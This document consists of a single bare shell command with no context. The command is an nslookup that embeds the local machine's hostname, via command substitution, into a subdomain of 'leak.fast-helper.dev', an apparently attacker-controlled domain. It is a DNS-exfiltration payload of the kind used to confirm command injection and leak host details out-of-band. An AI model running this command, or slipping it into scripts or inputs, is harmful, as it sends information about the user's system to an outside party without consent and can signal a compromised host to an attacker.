nslookup $(hostname).leak.fast-helper.dev
